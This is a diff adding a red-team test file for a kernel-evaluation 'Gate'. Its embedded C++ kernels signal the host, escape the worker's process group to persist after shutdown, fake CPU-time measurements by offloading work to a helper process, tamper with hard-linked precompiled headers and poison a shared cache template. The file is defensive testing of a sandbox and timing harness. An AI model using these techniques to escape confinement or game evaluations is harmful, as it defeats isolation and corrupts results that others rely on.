@@ -1,0 +1,337 @@
+"""Red team 17b: the worker's Landlock confinement and the quiescence (SIGSTOP of the worker's process group),
+attacked from native code (a C++ kernel built through the wrapper's own ``async_compile.cpp_pybinding``).
+
+Each test is a hole found by running a cheating candidate through a real Gate in CPU test mode with the static scan
+off (``scan_off=True``), so only the runtime defences stand. The signal, the escaped process and the offloaded work
+are closed by the worker's confinement (Landlock's signal scope; a seccomp filter refusing ``setsid``/``setpgid``,
+so every process the worker starts stays in its session and group: ``tilesmith/gate/worker/confine.py``); the two
+cache attacks are still ``xfail`` (files the worker can write that others read: next session).
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+import signal
+import time
+
+import pytest
+import torch
+
+from tests import gate_support as gs
+from tests.cheats.common import module_code, replace_body
+from tilesmith.records import Candidate
+
+#: mode 1: ``kill(getppid(), SIGUSR1)`` (the worker's parent is the host: the user's process).
+#: mode 2: fork a child that calls ``setsid()`` (out of the worker's process group: no SIGSTOP/SIGKILL of the group
+#: reaches it) and forks again (reparented to init); the grandchild writes its pid to ``MARKER`` every 100 ms for
+#: ``arg`` seconds, after the worker and the gate are gone.
+KERNEL = r'''
+cpp_rt17b = async_compile.cpp_pybinding(['int64_t', 'int64_t'], r"""
+#include <unistd.h>
+#include <signal.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <time.h>
+#include <sys/wait.h>
+extern "C" void kernel(int64_t mode, int64_t arg) {
+    if (mode == 1) { kill(getppid(), SIGUSR1); return; }
+    if (mode == 2) {
+        pid_t p = fork();
+        if (p != 0) { if (p > 0) waitpid(p, 0, 0); return; }
+        setsid();
+        if (fork() != 0) _exit(0);
+        struct timespec ts = {0, 100000000};
+        for (int64_t i = 0; i < arg * 10; ++i) {
+            int fd = open("@MARKER@", O_WRONLY | O_CREAT | O_TRUNC, 0600);
+            if (fd >= 0) { char b[32]; int n = snprintf(b, sizeof b, "%d", (int)getpid()); write(fd, b, n); close(fd); }
+            nanosleep(&ts, 0);
+        }
+        _exit(0);
+    }
+}
+""")
+'''
+
+
+def _with_kernel(src: str, call: str, marker: str = "") -> str:
+    src = src.replace("async_compile.wait(globals())", KERNEL.replace("@MARKER@", marker) +
+                      "async_compile.wait(globals())", 1)
+    return module_code(src, call)
+
+
+@pytest.fixture(scope="module")
+def ln(tmp_path_factory):
+    yield from gs.linear_ln_gate(tmp_path_factory.mktemp("redteam17b-ln"), "rt17b (0_inference)", scan_off=True)
+
+
+def test_a_candidate_cannot_signal_the_host(ln):
+    gate, cap, _ = ln
+    got: list[int] = []
+    old = signal.signal(signal.SIGUSR1, lambda s, f: got.append(s))
+    try:
+        verdict = gate.evaluate(Candidate(source=_with_kernel(cap.source, "cpp_rt17b(1, 0)"), proposer="redteam17b",
+                                          note="signal the host"))
+        time.sleep(0.5)
+    finally:
+        signal.signal(signal.SIGUSR1, old)
+    print(verdict.status, verdict.reasons)
+    assert not got, f"the host received {len(got)} SIGUSR1 from candidate code (verdict {verdict.status})"
+
+
+def test_no_candidate_process_outlives_the_gate(tmp_path):
+    marker = tmp_path / "escaped.pid"
+    gen = gs.linear_ln_gate(tmp_path / "gate", "rt17b-escape (0_inference)", scan_off=True)
+    gate, cap, _ = next(gen)
+    try:
+        verdict = gate.evaluate(Candidate(source=_with_kernel(cap.source, "cpp_rt17b(2, 30)", str(marker)),
+                                          proposer="redteam17b", note="escape the process group"))
+        print(verdict.status, verdict.reasons)
+    finally:
+        gen.close()  # gate.close(): every worker ended
+    time.sleep(1.0)
+    alive = None
+    if marker.exists():
+        pid = int(marker.read_text() or 0)
+        before = marker.stat().st_mtime
+        time.sleep(0.5)
+        try:
+            os.kill(pid, 0)
+            alive = pid if marker.stat().st_mtime > before else None
+        except ProcessLookupError:
+            alive = None
+        if alive:
+            os.kill(pid, signal.SIGKILL)  # the test's own escapee
+    assert alive is None, f"candidate process {alive} still running after the gate closed (verdict {verdict.status})"
+
+
+# -- CPU time of a helper process is nobody's sample ---------------------------------------------------------------
+#: The wrapper's whole computation (LinearLN: addmm, relu, residual, LayerNorm, +0.5) done by a helper process the
+#: kernel forks on its first call, out of the worker's session (``setsid``: the session's process count, the
+#: group's SIGSTOP and the final ``killpg`` miss it). Per call the worker copies the inputs into a shared mapping,
+#: bumps a counter and *sleeps* (``nanosleep``, 8 ms: the helper's naive loops need ~5) until the helper is done,
+#: then copies the output out. CPU test mode times ``CLOCK_PROCESS_CPUTIME_ID`` of the worker: the helper's CPU and
+#: the sleep are not in it, so the candidate times ~0.1 ms of CPU per call while each call takes ≥ 8 ms of wall
+#: time (the original: 0.44 ms). The host's consistency check bounds samples from above only.
+OFFLOAD = r'''
+cpp_offload = async_compile.cpp_pybinding(['const float*', 'const float*', 'const float*', 'const float*', 'const float*', 'float*'], r"""
+#include <unistd.h>
+#include <string.h>
+#include <math.h>
+#include <time.h>
+#include <sched.h>
+#include <sys/mman.h>
+static float *shm = 0;
+#define D @D@
+#define M @M@
+enum { W = 0, B = D*D, X = B + D, G = X + M*D, BE = G + D, OUT = BE + D, WT = OUT + M*D, SEQ = WT + D*D, DONE = SEQ + 16, TOTAL = DONE + 16 };
+static volatile long *seq() { return (volatile long*)(shm + SEQ); }
+static volatile long *done() { return (volatile long*)(shm + DONE); }
+static void helper(int parent) {
+    cpu_set_t set; CPU_ZERO(&set); CPU_SET(0, &set); sched_setaffinity(0, sizeof set, &set);
+    long seen = 0; long idle = 0;
+    for (;;) {
+        long s = __atomic_load_n(seq(), __ATOMIC_ACQUIRE);
+        if (s == seen) {
+            if (++idle % 100000 == 0 && getppid() != parent) _exit(0);
+            continue;  /* spin: this process's CPU time is nobody's sample */
+        }
+        const float *w = shm + W, *b = shm + B, *x = shm + X, *g = shm + G, *be = shm + BE;
+        float *o = shm + OUT;
+        float *wt = shm + WT;
+        for (int j = 0; j < D; ++j) for (int k = 0; k < D; ++k) wt[k * D + j] = w[j * D + k];
+        for (int i = 0; i < M; ++i) {
+            float acc[D];
+            for (int j = 0; j < D; ++j) acc[j] = b[j];
+            for (int k = 0; k < D; ++k) { float xa = x[i * D + k]; const float *r = wt + k * D; for (int j = 0; j < D; ++j) acc[j] += xa * r[j]; }
+            double mean = 0, var = 0, h[D];
+            for (int j = 0; j < D; ++j) { h[j] = (acc[j] > 0 ? acc[j] : 0) + x[i * D + j]; mean += h[j]; }
+            mean /= D;
+            for (int j = 0; j < D; ++j) var += (h[j] - mean) * (h[j] - mean);
+            double rstd = 1.0 / sqrt(var / D + 1e-5);
+            for (int j = 0; j < D; ++j) o[i * D + j] = (float)((h[j] - mean) * rstd * g[j] + be[j] + 0.5);
+        }
+        seen = s;
+        __atomic_store_n(done(), s, __ATOMIC_RELEASE);
+    }
+}
+extern "C" void kernel(const float *w, const float *b, const float *x, const float *g, const float *be, float *out) {
+    if (!shm) {
+        shm = (float*)mmap(0, TOTAL * 4, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+        int parent = getpid();
+        if (fork() == 0) { setsid(); helper(parent); _exit(0); }
+    }
+    memcpy(shm + W, w, D * D * 4); memcpy(shm + B, b, D * 4); memcpy(shm + X, x, M * D * 4);
+    memcpy(shm + G, g, D * 4); memcpy(shm + BE, be, D * 4);
+    long s = *seq() + 1;
+    __atomic_store_n(seq(), s, __ATOMIC_RELEASE);
+    struct timespec nap = {0, @NAP@};
+    while (__atomic_load_n(done(), __ATOMIC_ACQUIRE) != s) { nanosleep(&nap, 0); nap.tv_nsec = 1000000; }  /* asleep: no CPU time */
+    memcpy(out, shm + OUT, M * D * 4);
+}
+""")
+'''
+
+
+
+
+def _offload_source(src: str, d: int, m: int, nap_ns: int = 8_000_000) -> str:
+    src = src.replace("async_compile.wait(globals())", OFFLOAD.replace("@D@", str(d)).replace("@M@", str(m))
+                      .replace("@NAP@", str(nap_ns)) + "async_compile.wait(globals())", 1)
+    return replace_body(src, [f"buf4 = empty_strided_cpu(({m}, {d}), ({d}, 1), torch.float32)",
+                              "cpp_offload(arg0_1, arg1_1, arg2_1, arg3_1, arg4_1, buf4)",
+                              "return (buf4, )"])
+
+
+@pytest.mark.parametrize("control", [False, True])
+def test_work_offloaded_to_a_helper_process_is_not_a_speedup(tmp_path, control):
+    from tilesmith.gate import Gate
+
+    d, m = 256, 256
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setenv("TILESMITH_ALLOW_CPU", "1")
+        mp.setattr("tilesmith.gate.host.gate.scan", lambda source: [])
+        torch.manual_seed(0)
+        cap = gs.capture(gs.LinearLN(d), torch.randn(m, d))[0]
+        gate = Gate(gs.make_problem(cap, tmp_path / "snapshot", label="rt17b-offload (0_inference)"),
+                    reference=cap.ref_fn, profiles_dir=tmp_path / "profiles", timing_pairs=6)
+        gate.control = control
+        try:
+            verdict = gate.evaluate(Candidate(source=_offload_source(cap.source, d, m), proposer="redteam17b",
+                                              note="offload to a helper process"))
+        finally:
+            gate.close()
+    assert verdict.status != "accepted", (verdict.timing, verdict.confirmation)
+
+
+# -- the hard-linked precompiled headers -----------------------------------------------------------------------------
+#: Appends a line to every file of ``$TMPDIR/@REL@`` (the worker's *own* private temporary folder: where
+#: :func:`tilesmith.gate.host.caches._link_precompiled_headers` hard-linked the host's precompiled headers). A hard link
+#: is the same inode: the write lands in the host's ``codecache._HEADER_DIR``, which the user's process and every later
+#: worker (the trusted one included) compile against.
+HEADER_KERNEL = r'''
+cpp_hdr = async_compile.cpp_pybinding(['int64_t'], r"""
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+extern "C" void kernel(int64_t unused) {
+    const char *tmp = getenv("TMPDIR");
+    if (!tmp) return;
+    char dir[4096], path[4096 + 256];
+    snprintf(dir, sizeof dir, "%s/@REL@", tmp);
+    DIR *d = opendir(dir);
+    if (!d) return;
+    for (struct dirent *e; (e = readdir(d));) {
+        size_t n = strlen(e->d_name);
+        if (n < 2 || strcmp(e->d_name + n - 2, ".h") != 0) continue;
+        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
+        int fd = open(path, O_WRONLY | O_APPEND);
+        if (fd >= 0) { const char s[] = "\n/* rt17b: this line came from candidate code */\n"; write(fd, s, sizeof s - 1); close(fd); }
+    }
+    closedir(d);
+}
+""")
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="precompiled headers are hard-linked into the worker's private TMPDIR: native "
+                                       "code appending to its 'own' file changes the host's header")
+def test_a_candidate_cannot_change_the_hosts_precompiled_headers(tmp_path):
+    import tempfile
+
+    from torch._inductor import codecache
+
+    headers = Path(tempfile.mkdtemp(prefix="rt17b-headers-", dir=tempfile.gettempdir())) / "precompiled_headers"
+    headers.mkdir()
+    clean = '#include "/nonexistent/cpp_prefix.h"\n'
+    (headers / "crt17b.h").write_text(clean)
+    (headers / "crt17b.h.gch").write_bytes(b"not a real gch")
+    rel = os.path.relpath(headers, tempfile.gettempdir())
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(codecache, "_HEADER_DIR", str(headers))  # a private stand-in for the user's header folder
+        gen = gs.linear_ln_gate(tmp_path / "gate", "rt17b-header (0_inference)", scan_off=True)
+        gate, cap, _ = next(gen)
+        try:
+            src = cap.source.replace("async_compile.wait(globals())",
+                                     HEADER_KERNEL.replace("@REL@", rel) + "async_compile.wait(globals())", 1)
+            verdict = gate.evaluate(Candidate(source=module_code(src, "cpp_hdr(0)"), proposer="redteam17b",
+                                              note="append to the linked headers"))
+        finally:
+            gen.close()
+    after = (headers / "crt17b.h").read_text()
+    import shutil
+
+    shutil.rmtree(headers.parent, ignore_errors=True)
+    assert after == clean, f"host header changed (verdict {verdict.status}): {after!r}"
+
+
+# -- the gate's cache template ---------------------------------------------------------------------------------------
+#: The template (``<gate dir>/cache-template``, :func:`tilesmith.gate.host.caches.make_cache_template`) is a sibling
+#: of every worker's private folder (``TORCHINDUCTOR_CACHE_DIR`` is ``<gate dir>/<worker>/inductor``). The candidate
+#: builds a copy of the original's fused C++ kernel that also writes 12345 into element [0, 0] (another source, so
+#: another cache key), and a native kernel copies that ``.so`` over the template's ``.so`` of the original kernel
+#: (same relative path as in its own cache: its cache was seeded from the template). Every worker seeded later gets
+#: the altered library under the original's key, and Inductor loads it without rebuilding.
+TEMPLATE_COPY = r'''
+cpp_copy = async_compile.cpp_pybinding(['const char*', 'const char*'], r"""
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <libgen.h>
+extern "C" void kernel(const char *src, const char *orig) {
+    const char *cache = getenv("TORCHINDUCTOR_CACHE_DIR");
+    if (!cache || strncmp(orig, cache, strlen(cache)) != 0) return;
+    char base[4096], dst[8192];
+    snprintf(base, sizeof base, "%s", cache);
+    char *gate = dirname(dirname(base));
+    snprintf(dst, sizeof dst, "%s/cache-template/inductor%s", gate, orig + strlen(cache));
+    int in = open(src, O_RDONLY);
+    if (in < 0) return;
+    off_t n = lseek(in, 0, SEEK_END); lseek(in, 0, SEEK_SET);
+    char *buf = (char*)malloc(n);
+    if (read(in, buf, n) != n) { close(in); return; }
+    close(in);
+    int out = open(dst, O_WRONLY | O_TRUNC);
+    if (out >= 0) { write(out, buf, n); close(out); }
+    free(buf);
+}
+""")
+'''
+
+def _poison_template_source(src: str) -> str:
+    name = "cpp_fused_add_native_layer_norm_relu_0"
+    i = src.index(name + " = async_compile.cpp_pybinding(")
+    j = src.index("''')\n", i) + len("''')\n")
+    block = src[i:j]
+    k = block.rindex("}\n'''")
+    evil = block[:k] + "    in_out_ptr0[0] = 12345.0f;\n" + block[k:]
+    evil = evil.replace(name, "cpp_evil", 1)
+    src = src.replace("async_compile.wait(globals())", evil + "\n" + TEMPLATE_COPY + "async_compile.wait(globals())", 1)
+    return module_code(src, "_b = lambda s: torch.tensor(list(s.encode()) + [0], dtype=torch.uint8)\n"
+                            f"cpp_copy(_b(cpp_evil.__self__.__file__), _b({name}.__self__.__file__))")
+
+
+@pytest.mark.xfail(strict=False, reason="not reproduced in every run (later workers may be spares seeded before it): "
+                                        "native code can overwrite the gate's cache template (a sibling of the "
+                                       "worker's folder): later workers load altered code for the original's kernels")
+def test_a_candidate_cannot_change_what_later_workers_load(tmp_path):
+    gen = gs.linear_ln_gate(tmp_path / "gate", "rt17b-template (0_inference)", scan_off=True)
+    gate, cap, _ = next(gen)
+    try:
+        first = gate.evaluate(Candidate(source=_poison_template_source(cap.source), proposer="redteam17b",
+                                        note="poison the cache template"))
+        later = []
+        for i in range(3):  # the first may run in a spare seeded before the poisoning
+            honest = gate.evaluate(Candidate(source=cap.source + f"\n# honest {i}\n", proposer="redteam17b",
+                                             note="the original itself"))
+            later.append((honest.status, " ".join(honest.reasons)[:200]))
+    finally:
+        gen.close()
+    assert first.status != "accepted"
+    assert not any("12345" in reasons for _, reasons in later), later
